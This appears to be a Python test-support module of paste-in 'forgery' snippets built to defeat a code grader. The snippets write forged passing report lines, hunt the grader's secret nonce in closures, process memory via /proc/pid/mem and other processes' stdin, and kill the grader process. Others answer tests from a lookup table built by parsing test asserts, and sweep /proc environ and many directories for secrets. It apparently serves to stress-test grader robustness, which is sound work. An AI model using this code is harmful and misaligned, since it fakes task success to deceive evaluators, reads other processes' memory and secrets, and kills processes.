"""Building blocks of the forgeries: forged report lines, nonce hunting, answer tables, file reading.

Each is Python source to paste into a solution (tests/hacking/snippets.py). Helpers start with ``_rh_`` so they
never collide with grader names; ``__ENTRY__`` is the task's entry point.
"""

from __future__ import annotations

# Passing report lines for test indices 0..15, under each candidate nonce, written to each fd (never 2).
FORGE = r"""
def _rh_forge(nonces, fds=range(1, 24)):
    import os
    for nonce in list(nonces)[:50]:
        nonce = nonce if isinstance(nonce, bytes) else str(nonce).encode()
        rows = [b'\n%s {"k":"test","i":%d,"ok":true,"to":false,"err":"","ln":"","val":""}\n' % (nonce, i) for i in range(16)]
        data = b"".join(rows) + b'\n%s {"k":"end"}\n' % nonce
        for fd in fds:
            if fd != 2:
                try:
                    os.write(fd, data)
                except OSError:
                    pass
"""

# Looks through objects for report functions (and calls them: a pass per index) and nonce-like tokens.
HARVEST = (
    FORGE
    + r"""
def _rh_harvest(objects):
    import re
    pattern = re.compile(rb"(?:^|\n)([0-9a-f]{32})(?:[ \n]|$)")
    found, done = set(), set()
    def look(value):
        if isinstance(value, str):
            value = value.encode("latin-1", "ignore")
        if isinstance(value, (bytes, bytearray)) and 32 <= len(value) <= 4096:
            found.update(pattern.findall(bytes(value)))
    for obj in objects:
        try:
            if callable(obj) and getattr(obj, "__name__", "") in ("report", "report_test"):
                for i in set(range(16)) - done:  # one passing line per test: a second one voids both
                    line = '{"k":"test","i":%d,"ok":true,"to":false,"err":""}' % i
                    for args in ((i, True, False, "", "", ""), (i, True, False, ""), (line,)):
                        try:
                            obj(*args)
                            done.add(i)
                            break
                        except Exception:
                            pass
            for cell in getattr(obj, "__closure__", None) or ():
                try:
                    look(cell.cell_contents)
                except ValueError:
                    pass
            look(obj)
            if type(obj) is dict:
                for value in list(obj.values()):
                    look(value)
        except Exception:
            pass
    return found, bool(done)

def _rh_cash_in(found, called):
    import os
    if not called and found:
        _rh_forge(found)
    if found or called:
        os._exit(0)  # before the real (failing) verdicts: a test reported twice counts as failed
"""
)

# Reads rw memory of a process (``self`` or a pid) for nonce-shaped tokens.
SCAN_MEMORY = r"""
def _rh_scan_memory(pid="self"):
    import os, re
    found = set()
    try:
        with open(f"/proc/{pid}/maps") as maps:
            spans = [line.split()[0] for line in maps if line.split()[1].startswith("rw")]
        mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except (OSError, IndexError):
        return found
    for span in spans:
        lo, hi = (int(x, 16) for x in span.split("-"))
        if hi - lo <= 64 << 20:
            try:
                data = os.pread(mem, hi - lo, lo)
            except OSError:
                continue
            found.update(re.findall(rb"\n([0-9a-f]{32})[ \n]", data))  # a report-line prefix
            found.update(re.findall(rb"(?:^|[^0-9a-f])([0-9a-f]{32})\n\{", data))  # stdin: nonce, then JSON
    os.close(mem)
    return found
"""

# Everything another process could give away: its stdin (read and put back), its memory, its output fds.
STEAL = (
    FORGE
    + SCAN_MEMORY
    + r"""
def _rh_steal(pid):
    import os, re
    found, outs = set(), []
    for flags in (os.O_RDWR, os.O_RDONLY):
        try:
            fd = os.open(f"/proc/{pid}/fd/0", flags | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            data = os.read(fd, 1 << 20)
            if data and flags == os.O_RDWR:
                os.write(fd, data)  # put it back, so the victim reads what it expects
            found.update(re.findall(rb"^([0-9a-f]{32})\n", data))
        except OSError:
            pass
        os.close(fd)
        break
    found |= _rh_scan_memory(pid)
    for n in range(1, 12):
        try:
            outs.append(os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
    return found, outs

def _rh_rob(pid):
    import os
    found, outs = _rh_steal(pid)
    if found and outs:
        _rh_forge(found, outs)
        try:
            os.kill(pid, 9)  # the victim must not report its own (failing) verdicts afterwards
        except OSError:
            pass
    for fd in outs:
        os.close(fd)
    return bool(found and outs)
"""
)

# Replaces the entry point by a wrapper that answers from ``_rh_table`` (repr of the argument list -> value).
TABLE_WRAPPER = r"""
_rh_table = {}
def _rh_wrap(name):
    real = globals()[name]
    globals()["_rh_arity"] = getattr(getattr(real, "__code__", None), "co_argcount", 1)
    def wrapper(*args):
        key = repr(list(args))
        return _rh_table[key] if key in _rh_table else real(*args)
    globals()[name] = wrapper
_rh_wrap("__ENTRY__")
"""

# Expected values from test sources: ``assert f(args) == value`` (either side) and input/output rows.
TABLE_FROM_SOURCES = r"""
def _rh_learn(source, names=("__ENTRY__", "candidate")):
    import ast
    try:
        tree = ast.parse(source)
    except (SyntaxError, ValueError, TypeError):
        return
    for node in ast.walk(tree):
        if isinstance(node, ast.Compare) and len(node.ops) == 1 and isinstance(node.ops[0], (ast.Eq, ast.Is)):
            for call, other in ((node.left, node.comparators[0]), (node.comparators[0], node.left)):
                if isinstance(call, ast.Call) and getattr(call.func, "id", None) in names:
                    try:
                        _rh_table[repr([ast.literal_eval(a) for a in call.args])] = ast.literal_eval(other)
                    except Exception:
                        pass

def _rh_learn_rows(rows):
    for row in rows:
        if row.get("entry_point", "__ENTRY__") != "__ENTRY__":
            continue
        for case in row.get("cases", []):
            _rh_table[repr(list(case["input"]))] = case["output"]
        for source in row.get("tests", []) + [row.get("test", "")]:
            _rh_learn(source)
"""


def with_table(learn: str) -> str:
    """A forgery that fills the answer table with ``learn`` (code) and answers from it."""
    return TABLE_WRAPPER + TABLE_FROM_SOURCES + learn


# Rows of every JSONL file among ``paths`` (read errors skipped).
READ_ROWS = r"""
def _rh_rows(paths):
    import json
    rows = []
    for path in paths:
        try:
            with open(path, encoding="utf-8") as f:
                rows += [json.loads(line) for line in f if line.strip().startswith("{")]
        except (OSError, ValueError):
            pass
    return rows
"""

# Looks for ``pattern`` (bytes regex, one group) in every reachable file and process; ``_rh_found`` holds it.
SCAN_SECRET = r"""
def _rh_scan(pattern, seconds=0.8):
    import os, re, time
    rx, end, hits = re.compile(pattern), time.monotonic() + seconds, []
    def grab(path):
        try:
            if os.path.isfile(path) and os.path.getsize(path) < (4 << 20):
                with open(path, "rb") as f:
                    hits.extend(rx.findall(f.read()))
        except OSError:
            pass
    for name in os.listdir("/proc"):
        if name.isdigit() and name != str(os.getpid()):
            for part in ("cmdline", "environ", "fd/0"):
                grab(f"/proc/{name}/{part}")
    roots = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/run", "/sandbox", "/work", "/root",
             "/home", "/srv", "/opt", "/mnt", "/var/tmp", "/data"]
    for root in roots:
        for top, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in (".git", "node_modules", "__pycache__", "site-packages")]
            for name in files:
                grab(os.path.join(top, name))
            if hits or time.monotonic() > end:
                return hits
    return hits
"""
